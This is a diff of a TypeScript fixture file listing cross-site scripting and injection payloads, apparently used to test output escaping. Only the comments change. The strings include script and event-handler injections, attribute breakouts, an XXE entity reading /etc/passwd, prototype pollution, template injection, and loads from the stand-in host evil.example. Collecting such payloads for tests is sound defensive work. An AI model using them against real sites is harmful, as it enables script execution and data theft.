@@ -1,10 +1,10 @@
 /**
- * Texts that are harmless as long as they stay texts: each would run where its place is written without
- * escaping, in HTML, attributes, addresses, scripts, structured data, feeds or templates. What runs calls
- * `alert`, or fetches from `evil.example`.
+ * Texts that are harmless only if they are escaped. Each would run if written unescaped in HTML,
+ * attributes, URLs, scripts, structured data, feeds or templates. Code that runs calls `alert` or
+ * fetches from `evil.example`.
  */
 export const payloads: readonly string[] = [
-  // Elements that run by themselves.
+  // Elements that run or load on their own.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -27,7 +27,7 @@ export const payloads: readonly string[] = [
   '<style>@import "//evil.example/x.css";</style>',
   "<portal src=//evil.example>",
   "<frameset onload=alert(1)>",
-  // Handlers.
+  // Event handlers.
   "<img src=x onerror=alert(1)>",
   "<img/src=x/onerror=alert(1)>",
   "<IMG SRC=x OnErRoR=alert(1)//",
@@ -58,7 +58,7 @@ export const payloads: readonly string[] = [
   "<svg><a xlink:href='javascript:alert(1)'><text>x",
   "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
   "<math><maction xlink:href='javascript:alert(1)'>x",
-  // Out of an attribute.
+  // Breaking out of an attribute.
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
@@ -71,7 +71,7 @@ export const payloads: readonly string[] = [
   '"; alert(1); "',
   "x onerror=alert(1) ",
   '" http-equiv="refresh" content="0;url=//evil.example" x="',
-  // Out of an element whose text is not markup.
+  // Breaking out of an element that contains raw text.
   "</title><script>alert(1)</script>",
   "</textarea><script>alert(1)</script>",
   "</style><script>alert(1)</script>",
@@ -91,7 +91,7 @@ export const payloads: readonly string[] = [
   "<?xml version='1.0'?><script>alert(1)</script>",
   '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
   "&xxe; &nbsp; &#x3c;script&#x3e;",
-  // Out of a script's own text, and of JSON.
+  // Breaking out of scripts and JSON.
   "';alert(1);//",
   '";alert(1);//',
   "\\';alert(1);//",
@@ -102,7 +102,7 @@ export const payloads: readonly string[] = [
   '"}]}</script><script>alert(1)</script>',
   '{"@type":"Person","__proto__":{"x":1}}',
   "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-  // Addresses.
+  // URLs.
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
   "java&#9;script:alert(1)",
@@ -114,7 +114,7 @@ export const payloads: readonly string[] = [
   "//evil.example/x.js",
   "https://evil.example@presale.example",
   "blob:https://evil.example/x",
-  // Templates, mails and other tongues.
+  // Templates, emails and encodings.
   "{{constructor.constructor('alert(1)')()}}",
   "{{name}} $t(mail:greeting) {{email}}",
   "<%= alert(1) %> #{alert(1)} @{alert(1)}",
